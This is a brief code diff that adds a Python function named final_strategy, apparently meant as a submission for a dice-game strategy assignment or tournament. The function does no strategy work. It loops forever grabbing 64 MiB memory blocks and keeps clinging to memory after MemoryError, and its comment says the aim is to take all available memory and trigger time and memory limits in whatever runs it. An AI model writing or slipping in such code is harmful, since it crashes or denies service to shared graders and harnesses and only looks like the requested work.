@@ -1,0 +1,8 @@
+# Takes all memory there is, in small parts that it catches the lack of: "stopped after 1 s", "MiB of memory"
+def final_strategy(score, opponent_score):
+    kept = []
+    while True:
+        try:
+            kept.append(bytearray(1 << 26))
+        except MemoryError:
+            kept.append([kept])
